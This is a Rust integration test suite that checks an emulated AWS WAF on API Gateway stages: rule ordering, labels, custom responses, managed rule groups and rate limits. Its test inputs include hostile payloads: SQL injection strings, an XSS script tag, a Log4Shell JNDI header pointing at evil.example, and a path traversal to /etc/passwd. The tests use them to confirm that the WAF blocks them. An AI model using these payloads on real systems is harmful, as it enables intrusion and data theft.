//! AWS WAF v2 on stages, black-box: a web ACL pasted as JSON is created and
//! associated through boto3's own `wafv2` client against the real binary,
//! then the data plane is driven with real requests (HTTP_PROXY to a real
//! backend): a SQL injection is blocked with the WAF_FILTERED 403 while a
//! benign request passes, the WAF decides before the resource policy, Count
//! labels then a later rule blocks on the label, a rule's custom response
//! wins, and a stale LockToken and bad input are refused.

use apigw_tests::{Backend, Client, Node};
use http::Method;
use serde_json::Value;

const API: &str = r#"
openapi: 3.0.1
info: {title: waf}
x-amazon-apigateway-policy:
  Version: "2012-10-17"
  Statement:
    - {Effect: Allow, Principal: "*", Action: "execute-api:Invoke", Resource: "execute-api:/*"}
    - {Effect: Deny, Principal: "*", Action: "execute-api:Invoke", Resource: "execute-api:/*/GET/denied"}
paths:
  /{proxy+}:
    x-amazon-apigateway-any-method:
      parameters: [{name: proxy, in: path, required: true}]
      x-amazon-apigateway-integration:
        type: http_proxy
        httpMethod: ANY
        uri: BACKEND/{proxy}
        requestParameters:
          integration.request.path.proxy: method.request.path.proxy
"#;

/// A web ACL as users paste it (boto3 base64-encodes `SearchString` itself).
const WEB_ACL: &str = r#"{
  "Name": "api-guard",
  "Description": "pasted from a Terraform rule_json",
  "DefaultAction": {"Allow": {}},
  "VisibilityConfig": {"SampledRequestsEnabled": true, "CloudWatchMetricsEnabled": true, "MetricName": "api-guard"},
  "CustomResponseBodies": {"tea": {"ContentType": "APPLICATION_JSON", "Content": "{\"short\":\"stout\"}"}},
  "Rules": [
    {"Name": "tag-marked", "Priority": 0,
     "Action": {"Count": {"CustomRequestHandling": {"InsertHeaders": [{"Name": "counted", "Value": "yes"}]}}},
     "RuleLabels": [{"Name": "marked"}],
     "Statement": {"ByteMatchStatement": {"SearchString": "tagged", "FieldToMatch": {"SingleHeader": {"Name": "x-mark"}},
       "TextTransformations": [{"Priority": 0, "Type": "NONE"}], "PositionalConstraint": "EXACTLY"}},
     "VisibilityConfig": {"SampledRequestsEnabled": true, "CloudWatchMetricsEnabled": true, "MetricName": "tag-marked"}},
    {"Name": "block-marked", "Priority": 1, "Action": {"Block": {}},
     "Statement": {"AndStatement": {"Statements": [
       {"LabelMatchStatement": {"Scope": "LABEL", "Key": "marked"}},
       {"ByteMatchStatement": {"SearchString": "block", "FieldToMatch": {"QueryString": {}},
         "TextTransformations": [{"Priority": 0, "Type": "NONE"}], "PositionalConstraint": "CONTAINS"}}]}},
     "VisibilityConfig": {"SampledRequestsEnabled": true, "CloudWatchMetricsEnabled": true, "MetricName": "block-marked"}},
    {"Name": "sqli", "Priority": 2, "Action": {"Block": {}},
     "Statement": {"SqliMatchStatement": {"FieldToMatch": {"QueryString": {}},
       "TextTransformations": [{"Priority": 0, "Type": "URL_DECODE"}]}},
     "VisibilityConfig": {"SampledRequestsEnabled": true, "CloudWatchMetricsEnabled": true, "MetricName": "sqli"}},
    {"Name": "teapot", "Priority": 3,
     "Action": {"Block": {"CustomResponse": {"ResponseCode": 418, "CustomResponseBodyKey": "tea",
       "ResponseHeaders": [{"Name": "why", "Value": "teapot"}]}}},
     "Statement": {"ByteMatchStatement": {"SearchString": "/teapot", "FieldToMatch": {"UriPath": {}},
       "TextTransformations": [{"Priority": 0, "Type": "NONE"}], "PositionalConstraint": "ENDS_WITH"}},
     "VisibilityConfig": {"SampledRequestsEnabled": true, "CloudWatchMetricsEnabled": true, "MetricName": "teapot"}},
    {"Name": "bad-net", "Priority": 4, "Action": {"Block": {}},
     "Statement": {"IPSetReferenceStatement": {"ARN": "IPSET_ARN"}},
     "VisibilityConfig": {"SampledRequestsEnabled": true, "CloudWatchMetricsEnabled": true, "MetricName": "bad-net"}}
  ]
}"#;

/// Runs tests/scripts/waf.py against the node; its JSON answer.
fn drive_boto3(node: &Node) -> Value {
    run_script(node, "waf.py", WEB_ACL)
}

/// Runs a script of tests/scripts with the node's endpoint, keys, region,
/// the stage `guarded/prod` and `acl` written to a file; its JSON answer.
fn run_script(node: &Node, script: &str, acl: &str) -> Value {
    let keys = node.admin_keys().expect("admin keys");
    let dir = tempfile_dir();
    let acl_path = dir.join("web-acl.json");
    std::fs::write(&acl_path, acl).expect("write the ACL");
    let script = format!("{}/scripts/{script}", env!("CARGO_MANIFEST_DIR"));
    let python = apigw_tests::python::python_with_lambda_ric().expect("python with boto3");
    let out = std::process::Command::new(python)
        .args([
            script.as_str(),
            &format!("http://{}", node.admin),
            &keys.access_key_id,
            &keys.secret_access_key,
            &node.region,
            "guarded",
            "prod",
            acl_path.to_str().expect("utf-8 path"),
        ])
        .output()
        .expect("python runs");
    std::fs::remove_dir_all(&dir).ok();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    serde_json::from_slice(&out.stdout).expect("the script's JSON")
}

static NEXT_DIR: std::sync::atomic::AtomicUsize = std::sync::atomic::AtomicUsize::new(0);

fn tempfile_dir() -> std::path::PathBuf {
    let dir = std::env::temp_dir().join(format!(
        "apigw-waf-test-{}-{}",
        std::process::id(),
        NEXT_DIR.fetch_add(1, std::sync::atomic::Ordering::Relaxed)
    ));
    std::fs::create_dir_all(&dir).expect("scratch dir");
    dir
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_pasted_web_acl_guards_its_stage_before_the_resource_policy() {
    let backend = Backend::echo().await;
    let node = Node::builder()
        .file("api.yaml", &API.replace("BACKEND", &backend.url()))
        .config("apis:\n  - {id: guarded, openapi: api.yaml, stages: [{name: prod}]}\n")
        .start()
        .expect("node starts");
    let client = Client::default();
    let get = |path: &str, headers: &'static [(&'static str, &'static str)]| {
        let url = node.invoke_url("guarded", "prod", path);
        let client = &client;
        async move {
            client
                .send(Method::GET, &url, headers, "")
                .await
                .expect("reply")
        }
    };
    let sqli = "/items?id=1%27%20OR%20%271%27%3D%271";
    // No web ACL yet: the injection reaches the backend.
    assert_eq!(get(sqli, &[]).await.status, 200);

    let seen = drive_boto3(&node);

    // The API's answers.
    assert_eq!(
        seen["rule_names"],
        serde_json::json!(["tag-marked", "block-marked", "sqli", "teapot", "bad-net"])
    );
    assert!(seen["capacity"].as_u64().is_some_and(|c| c > 20), "{seen}");
    assert_eq!(seen["listed"], serde_json::json!(["api-guard"]));
    assert_eq!(seen["for_resource"], seen["acl_arn"]);
    assert_eq!(seen["next_token_differs"], true);
    assert_eq!(
        seen["stale_update"][0], "WAFOptimisticLockException",
        "{seen}"
    );
    assert_eq!(seen["stale_update"][1], 400);
    assert_eq!(seen["stale_delete_ip_set"][0], "WAFOptimisticLockException");
    assert_eq!(
        seen["lookaround"][0], "WAFInvalidParameterException",
        "{seen}"
    );
    assert_eq!(
        seen["duplicate_priorities"][0],
        "WAFInvalidParameterException"
    );
    let reason = seen["duplicate_priorities"][2].as_str().unwrap_or_default();
    assert!(reason.to_lowercase().contains("priorit"), "{reason}");
    assert_eq!(
        seen["unknown_managed_group"][0], "WAFInvalidParameterException",
        "{seen}"
    );
    assert_eq!(seen["duplicate_name"][0], "WAFDuplicateItemException");
    assert_eq!(seen["cloudfront_scope"][0], "WAFInvalidParameterException");
    assert_eq!(seen["delete_associated"][0], "WAFAssociatedItemException");

    // A benign request passes; the injection is blocked with WAF_FILTERED.
    let before = backend.seen().len();
    let benign = get("/items?q=o%27reilly%20books", &[]).await;
    assert_eq!(benign.status, 200, "{}", benign.text());
    let blocked = get(sqli, &[]).await;
    assert_eq!(blocked.status, 403);
    assert_eq!(blocked.json(), serde_json::json!({"message": "Forbidden"}));
    assert_eq!(
        blocked.header("x-amzn-errortype"),
        Some("ForbiddenException")
    );
    assert_eq!(
        backend.seen().len(),
        before + 1,
        "only the benign request arrived"
    );

    // WAF before the resource policy: the policy denies /denied, but an
    // injection there is the WAF's refusal, a benign call the policy's.
    let denied = get("/denied", &[]).await;
    assert_eq!(denied.status, 403);
    assert_eq!(
        denied.header("x-amzn-errortype"),
        Some("AccessDeniedException")
    );
    let waf_first = get("/denied?id=1%27%20OR%20%271%27%3D%271", &[]).await;
    assert_eq!(waf_first.status, 403);
    assert_eq!(
        waf_first.header("x-amzn-errortype"),
        Some("ForbiddenException")
    );
    assert_eq!(
        waf_first.json(),
        serde_json::json!({"message": "Forbidden"})
    );

    // Count labels and inserts a header, and goes on...
    let counted = get("/items?q=hello", &[("x-mark", "tagged")]).await;
    assert_eq!(counted.status, 200);
    assert_eq!(counted.json()["headers"]["x-amzn-waf-counted"], "yes");
    // ...and a later rule blocks on the label.
    let labelled = get("/items?q=block", &[("x-mark", "tagged")]).await;
    assert_eq!(labelled.status, 403);
    let unlabelled = get("/items?q=block", &[]).await;
    assert_eq!(
        unlabelled.status, 200,
        "without the label the rule does not match"
    );

    // The rule's custom response, with its body by key and its headers.
    let teapot = get("/pots/teapot", &[]).await;
    assert_eq!(teapot.status, 418);
    assert_eq!(teapot.json(), serde_json::json!({"short": "stout"}));
    assert_eq!(teapot.header("why"), Some("teapot"));
    assert_eq!(teapot.header("content-type"), Some("application/json"));

    // GetStage names the web ACL; /metrics counts per rule.
    let admin = node.admin_client();
    let stage = admin
        .get("/restapis/guarded/stages/prod")
        .await
        .expect("stage")
        .json();
    assert_eq!(stage["webAclArn"], seen["acl_arn"], "{stage}");
    let metrics = admin.get("/metrics").await.expect("metrics").text();
    assert!(
        metrics.contains("apigw_waf_requests_total{metric=\"sqli\",action=\"blocked\"} 2"),
        "{metrics}"
    );

    // One AWS WAF log record per inspected request.
    let record = node
        .wait_for_log(|l| {
            l["target"] == "apigw::waf"
                && l.to_string().contains("terminatingRuleId")
                && l.to_string().contains("sqli")
        })
        .expect("a WAF log record of the SQLi block");
    assert!(record.to_string().contains("BLOCK"), "{record}");
    node.stop().expect("stops");
}

/// The three managed groups and a rate-based rule, as users paste them.
const MANAGED_AND_RATE: &str = r#"{
  "Name": "managed-and-rate",
  "DefaultAction": {"Allow": {}},
  "VisibilityConfig": {"SampledRequestsEnabled": true, "CloudWatchMetricsEnabled": true, "MetricName": "managed-and-rate"},
  "Rules": [
    {"Name": "common", "Priority": 0, "OverrideAction": {"None": {}},
     "Statement": {"ManagedRuleGroupStatement": {"VendorName": "AWS", "Name": "AWSManagedRulesCommonRuleSet"}},
     "VisibilityConfig": {"SampledRequestsEnabled": true, "CloudWatchMetricsEnabled": true, "MetricName": "common"}},
    {"Name": "bad-inputs", "Priority": 1, "OverrideAction": {"None": {}},
     "Statement": {"ManagedRuleGroupStatement": {"VendorName": "AWS", "Name": "AWSManagedRulesKnownBadInputsRuleSet"}},
     "VisibilityConfig": {"SampledRequestsEnabled": true, "CloudWatchMetricsEnabled": true, "MetricName": "bad-inputs"}},
    {"Name": "sqli-set", "Priority": 2, "OverrideAction": {"None": {}},
     "Statement": {"ManagedRuleGroupStatement": {"VendorName": "AWS", "Name": "AWSManagedRulesSQLiRuleSet"}},
     "VisibilityConfig": {"SampledRequestsEnabled": true, "CloudWatchMetricsEnabled": true, "MetricName": "sqli-set"}},
    {"Name": "per-ip", "Priority": 3, "Action": {"Block": {}},
     "Statement": {"RateBasedStatement": {"Limit": 10, "EvaluationWindowSec": 60, "AggregateKeyType": "IP",
       "ScopeDownStatement": {"ByteMatchStatement": {"SearchString": "/limited", "FieldToMatch": {"UriPath": {}},
         "TextTransformations": [{"Priority": 0, "Type": "NONE"}], "PositionalConstraint": "ENDS_WITH"}}}},
     "VisibilityConfig": {"SampledRequestsEnabled": true, "CloudWatchMetricsEnabled": true, "MetricName": "per-ip"}}
  ]
}"#;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn managed_groups_block_attacks_and_rate_rules_count_through_the_node_counters() {
    let backend = Backend::echo().await;
    let node = Node::builder()
        .file("api.yaml", &API.replace("BACKEND", &backend.url()))
        .config("apis:\n  - {id: guarded, openapi: api.yaml, stages: [{name: prod}]}\n")
        .start()
        .expect("node starts");
    let made = run_script(&node, "waf_associate.py", MANAGED_AND_RATE);
    // Common 700 + KnownBadInputs 200 + SQLi 200, plus the rate-based rule.
    assert!(
        made["capacity"].as_u64().is_some_and(|c| c >= 1100),
        "{made}"
    );
    let client = Client::default();
    // KnownBadInputs blocks `Host: localhost` and loopback hosts, as AWS's
    // does: the requests name the host a real client would.
    let send = |method: Method,
                path: &str,
                mut headers: Vec<(&'static str, &'static str)>,
                body: &'static str| {
        let url = node.invoke_url("guarded", "prod", path);
        let client = &client;
        headers.push(("host", "api.example.com"));
        async move {
            client
                .send(method, &url, &headers, body)
                .await
                .expect("reply")
                .status
        }
    };
    // Ordinary API traffic passes the three groups.
    assert_eq!(
        send(
            Method::GET,
            "/pets?q=o%27brien&limit=10",
            vec![("user-agent", "curl/8")],
            ""
        )
        .await,
        200,
        "{}",
        last_waf_record(&node)
    );
    assert_eq!(
        send(
            Method::POST,
            "/pets",
            vec![
                ("user-agent", "curl/8"),
                ("content-type", "application/json")
            ],
            r#"{"name": "Rex \"the dog\"", "note": "it's fine"}"#
        )
        .await,
        200
    );
    // Attacks each group names are blocked.
    for (path, headers, body) in [
        (
            "/pets?id=1%20UNION%20SELECT%20password%20FROM%20users--",
            vec![("user-agent", "curl/8")],
            "",
        ),
        (
            "/pets?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
            vec![("user-agent", "curl/8")],
            "",
        ),
        (
            "/pets",
            vec![("user-agent", "${jndi:ldap://evil.example/a}")],
            "",
        ),
        (
            "/pets?file=..%2F..%2F..%2Fetc%2Fpasswd",
            vec![("user-agent", "curl/8")],
            "",
        ),
        ("/pets", vec![], ""),
    ] {
        assert_eq!(
            send(Method::GET, path, headers.clone(), body).await,
            403,
            "{path} {headers:?}"
        );
    }
    // Rate-based: the 11th request within the window is over the limit of 10.
    let mut statuses = Vec::new();
    for _ in 0..12 {
        statuses.push(send(Method::GET, "/limited", vec![("user-agent", "curl/8")], "").await);
    }
    assert_eq!(&statuses[..10], &[200; 10], "{statuses:?}");
    assert_eq!(&statuses[10..], &[403, 403], "{statuses:?}");
    // Other paths are outside the scope-down.
    assert_eq!(
        send(Method::GET, "/pets", vec![("user-agent", "curl/8")], "").await,
        200
    );
    node.stop().expect("stops");
}

/// The latest WAF log record (for failure messages).
fn last_waf_record(node: &Node) -> String {
    node.wait_for_log(|l| l["target"] == "apigw::waf")
        .map(|l| l.to_string())
        .unwrap_or_else(|e| e.to_string())
}
